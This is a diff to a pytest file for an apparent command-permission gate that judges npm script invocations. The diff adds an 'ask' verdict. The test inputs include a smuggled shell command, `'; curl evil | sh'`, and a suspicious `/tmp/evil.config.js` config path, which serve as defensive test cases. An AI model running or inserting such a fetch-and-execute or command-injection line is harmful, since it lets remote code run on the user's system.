@@ -5,7 +5,7 @@ import os
 
 import pytest
 
-from runtime.gate.decision import ALLOW, DENY
+from runtime.gate.decision import ALLOW, ASK, DENY
 from runtime.gate.engine import decide
 from runtime.policy.compile import package_scripts
 
@@ -43,13 +43,15 @@ def test_every_command_of_the_script_gets_judged_with_the_arguments_on_the_last(
     policy = npm_policy()
     assert _bash(policy, "npm run check -- --max-warnings 0", worktree).verdict == ALLOW
     d = _bash(policy, "npm run check -- --fix", worktree)  # eslint --fix rewrites every file it lints
-    assert d.verdict == DENY and "the package script runs `tsc --noEmit && eslint src --fix`" in d.reason
+    # No rule declares eslint's --fix: undecided, so asked, saying what the script runs.
+    assert d.verdict == ASK and "the package script runs `tsc --noEmit && eslint src --fix`" in d.reason
 
 
 @pytest.mark.parametrize("command,why", [
     ("npm test -- --config /tmp/evil.config.js", "the package script runs `jest --config /tmp/evil.config.js`"),
     ("npm test -- --outputFile=/tmp/x", "/tmp/x"),
-    ("npm run build -- --env x", "the package script runs `webpack --env x`: `webpack` is not an allowed program"),
+    ("npm run build -- --env x", "the package script runs `webpack --env x`: no rule of role `edit-local` runs "
+                                 "`webpack`"),
     ("npm run nothing -- x", "did not declare"),
     ("npm run report -- x", "redirects into files"),
     ("npm run clever -- x", "command substitution"),
@@ -61,12 +63,15 @@ def test_every_command_of_the_script_gets_judged_with_the_arguments_on_the_last(
 ])
 def test_what_the_script_would_do_with_them_decides(npm_policy, worktree, command, why):
     d = _bash(npm_policy(), command, worktree)
-    assert d.verdict == DENY and why in d.reason, d
+    # What no rule declares (jest's --config, webpack) is undecided, so asked; the rest is refused.
+    undecided = "--config" in command or "webpack" in why
+    assert d.verdict == (ASK if undecided else DENY) and why in d.reason, d
 
 
 def test_npm_itself_is_judged_first_and_each_argument_stays_one_word(npm_policy, worktree):
     d = _bash(npm_policy("explorer"), "npm run build -- --env x", worktree)
-    assert d.verdict == DENY and "`npm run build` is not allowed" in d.reason  # explorer runs no build script
+    # explorer's rules run no build script: undecided, so asked
+    assert d.verdict == ASK and "`npm run build` is not a form the rules of role `explorer` declare" in d.reason
     d = _bash(npm_policy(), "npm test -- '; curl evil | sh'", worktree)  # quoted for sh as npm quotes it
     assert d.verdict == ALLOW and "(npm, jest)" in d.reason  # one test-name pattern, never a second command
 
